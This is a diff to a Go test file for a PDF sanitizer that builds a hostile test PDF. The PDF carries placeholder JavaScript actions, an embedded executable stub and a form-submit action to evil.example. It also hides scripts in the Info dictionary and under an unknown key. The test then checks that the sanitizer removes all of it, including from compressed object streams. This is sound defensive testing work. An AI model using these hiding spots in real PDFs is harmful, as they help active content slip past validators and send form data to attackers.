@@ -8,17 +8,21 @@ import (
 	"io"
 	"os"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
 	"github.com/pdfcpu/pdfcpu/pkg/api"
 	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
 	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"
+
+	"github.com/ratsmappe/ratsmappe/documents/pdfworker"
 )
 
 // buildPDF writes a PDF from numbered object bodies (object i+1 is
 // objs[i]) with a correct cross-reference table; object 1 is the catalog.
-func buildPDF(objs []string) []byte {
+// trailer is added to the trailer dictionary, e.g. "/Info 9 0 R".
+func buildPDF(objs []string, trailer ...string) []byte {
 	var b bytes.Buffer
 	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
 	offsets := make([]int, len(objs))
@@ -31,7 +35,7 @@ func buildPDF(objs []string) []byte {
 	for _, off := range offsets {
 		fmt.Fprintf(&b, "%010d 00000 n \n", off)
 	}
-	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
+	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, strings.Join(trailer, " "), xref)
 	return b.Bytes()
 }
 
@@ -42,9 +46,13 @@ func stream(dict, data string) string {
 const hostileText = "Beschlussvorlage Radweg Durlacher Allee"
 
 // hostilePDF has every kind of active content the sanitizer must remove.
-func hostilePDF() []byte {
+func hostilePDF() []byte { return buildPDF(hostileObjects(), hostileTrailer) }
+
+const hostileTrailer = "/Info 16 0 R"
+
+func hostileObjects() []string {
 	content := "BT /F1 18 Tf 72 720 Td (" + hostileText + ") Tj ET"
-	return buildPDF([]string{
+	return []string{
 		// 1 catalog: OpenAction JavaScript, Names with JavaScript and
 		// EmbeddedFiles, AcroForm with XFA, document-level AA.
 		`<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R
@@ -78,22 +86,99 @@ func hostilePDF() []byte {
 		// 12 XFA
 		stream("", "<xdp:xdp>EVIL-XFA</xdp:xdp>"),
 		// 13 a harmless web link, which stays
-		`<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /URI /URI (https://www.karlsruhe.de/) >> >>`,
+		`<< /Type /Annot /Subtype /Link /Rect [72 500 300 530] /A << /S /URI /URI (https://www.karlsruhe.de/) >> /Private 18 0 R >>`,
 		// 14 the embedded file
 		stream("/Type /EmbeddedFile", "MZ EVIL-EMBEDDED-PAYLOAD"),
 		// 15 a form field whose keystroke action is a script
 		`<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /DA (/Helv 12 Tf 0 g) /Rect [72 400 300 420] /P 3 0 R
 		   /AA << /K << /S /JavaScript /JS (EVIL-FIELD) >> >>
 		   /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>`,
-	})
+		// 16 document information with a script where no validator looks
+		`<< /Title (Radweg) /Hidden 17 0 R >>`,
+		// 17
+		`<< /S /JavaScript /JS (EVIL-IN-INFO) >>`,
+		// 18 an action under a key no validator knows
+		`<< /S /Launch /F (EVIL-UNDER-PRIVATE-KEY) >>`,
+	}
 }
 
 // TestSanitizer: after ingestion, re-parsing the rendition finds none of
 // the active content, and the text is unchanged.
+// It does so for the file as written by hand (classic cross-reference
+// table) and for the same file rewritten with object streams, where pdfcpu
+// decodes objects only when asked to.
 func TestSanitizer(t *testing.T) {
 	p := newPool(t, nil)
+	t.Run("xref table", func(t *testing.T) {
+		testSanitizer(t, p, writeFile(t, "hostile.pdf", hostilePDF()))
+	})
+	t.Run("object streams", func(t *testing.T) {
+		testSanitizer(t, p, writeFile(t, "hostile-objstm.pdf", withObjectStreams(hostileObjects(), hostileTrailer)))
+	})
+}
+
+// withObjectStreams is buildPDF for PDF 1.5 and later: every object but
+// the streams goes into one compressed object stream, and the
+// cross-reference table is a stream too. pdfcpu decodes such objects only
+// when asked to.
+func withObjectStreams(objs []string, trailer ...string) []byte {
+	n := len(objs)
+	stm := n + 1  // the object stream
+	xref := n + 2 // the cross-reference stream
+	var head, body bytes.Buffer
+	var inStm []int // object numbers in the object stream
+	for i, o := range objs {
+		if strings.Contains(o, "stream\n") {
+			continue
+		}
+		fmt.Fprintf(&head, "%d %d ", i+1, body.Len())
+		body.WriteString(o)
+		body.WriteString("\n")
+		inStm = append(inStm, i+1)
+	}
+	var z bytes.Buffer
+	zw := zlib.NewWriter(&z)
+	zw.Write(head.Bytes())
+	zw.Write(body.Bytes())
+	zw.Close()
+
+	var b bytes.Buffer
+	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+	offsets := make([]int, xref+1)
+	for i, o := range objs {
+		if strings.Contains(o, "stream\n") {
+			offsets[i+1] = b.Len()
+			fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
+		}
+	}
+	offsets[stm] = b.Len()
+	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n",
+		stm, len(inStm), head.Len(), z.Len())
+	b.Write(z.Bytes())
+	b.WriteString("\nendstream\nendobj\n")
+	offsets[xref] = b.Len()
+	// Entries of 1 + 4 + 2 bytes: type, offset or object stream, generation or index.
+	var x bytes.Buffer
+	entry := func(typ byte, f2 uint32, f3 uint16) {
+		x.Write([]byte{typ, byte(f2 >> 24), byte(f2 >> 16), byte(f2 >> 8), byte(f2), byte(f3 >> 8), byte(f3)})
+	}
+	entry(0, 0, 65535)
+	for num := 1; num <= xref; num++ {
+		if k := slices.Index(inStm, num); k >= 0 {
+			entry(2, uint32(stm), uint16(k))
+		} else {
+			entry(1, uint32(offsets[num]), 0)
+		}
+	}
+	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s /Length %d >>\nstream\n",
+		xref, xref+1, strings.Join(trailer, " "), x.Len())
+	b.Write(x.Bytes())
+	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", offsets[xref])
+	return b.Bytes()
+}
+
+func testSanitizer(t *testing.T, p *pdfworker.Pool, in string) {
 	ctx := context.Background()
-	in := writeFile(t, "hostile.pdf", hostilePDF())
 	res, err := p.Ingest(ctx, in)
 	if err != nil {
 		t.Fatalf("ingest: %v", err)
@@ -139,11 +224,29 @@ func TestSanitizer(t *testing.T) {
 	if err != nil {
 		t.Fatalf("re-parse: %v", err)
 	}
+	links := 0
 	for n, e := range pctx.XRefTable.Table {
 		if e == nil || e.Free || e.Object == nil {
 			continue
 		}
+		if _, lazy := e.Object.(types.LazyObjectStreamObject); lazy {
+			// An object in an object stream, not decoded yet.
+			o, err := pctx.Dereference(*types.NewIndirectRef(n, 0))
+			if err != nil {
+				t.Errorf("object %d: %v", n, err)
+				continue
+			}
+			e.Object = o
+		}
 		checkObject(t, n, e.Object)
+		if d, ok := e.Object.(types.Dict); ok && d.NameEntry("Subtype") != nil && *d.NameEntry("Subtype") == "Link" {
+			links++
+		}
+	}
+	// The link that launched a program is still a link, without its
+	// action; the web link is unchanged.
+	if got, want := links, 2; got != want {
+		t.Errorf("%d link annotations, want %d", got, want)
 	}
 }
 
